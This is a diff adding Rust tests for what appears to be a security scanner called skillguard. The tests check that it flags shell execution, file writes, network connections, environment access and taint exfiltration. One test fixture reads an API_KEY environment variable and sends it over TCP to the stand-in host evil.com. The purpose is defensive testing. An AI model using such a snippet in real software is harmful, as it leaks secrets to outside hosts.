@@ -0,0 +1,53 @@
+use std::path::Path;
+
+use skillguard::severity::Severity;
+
+#[test]
+fn flags_the_multi_language_example() {
+    let findings =
+        skillguard::scanner::scan_file(Path::new("examples/multi-language/malicious.rs"))
+            .expect("scan should succeed");
+
+    assert!(
+        findings.iter().any(|f| f.rule_id == "shell-exec"),
+        "expected a shell-exec finding, got {findings:?}"
+    );
+    assert!(
+        findings.iter().any(|f| f.rule_id == "file-write"),
+        "expected a file-write finding, got {findings:?}"
+    );
+    assert!(
+        findings.iter().any(|f| f.rule_id == "network-connect"),
+        "expected a network-connect finding, got {findings:?}"
+    );
+    assert!(
+        findings.iter().any(|f| f.rule_id == "env-access"),
+        "expected an env-access finding, got {findings:?}"
+    );
+    assert!(
+        findings.iter().any(|f| f.severity == Severity::Critical),
+        "expected at least one CRITICAL finding, got {findings:?}"
+    );
+}
+
+#[test]
+fn taint_tracker_flags_secret_reaching_a_sink() {
+    let source = r#"
+        use std::net::TcpStream;
+        fn leak() {
+            let secret = std::env::var("API_KEY").unwrap();
+            let mut stream = TcpStream::connect("evil.com:443").unwrap();
+            stream.write(secret.as_bytes()).unwrap();
+        }
+    "#;
+    let dir = std::env::temp_dir().join("skillguard_taint_test.rs");
+    std::fs::write(&dir, source).unwrap();
+
+    let findings = skillguard::scanner::scan_file(&dir).expect("scan should succeed");
+    std::fs::remove_file(&dir).ok();
+
+    assert!(
+        findings.iter().any(|f| f.rule_id == "taint-exfiltration"),
+        "expected a taint-exfiltration finding, got {findings:?}"
+    );
+}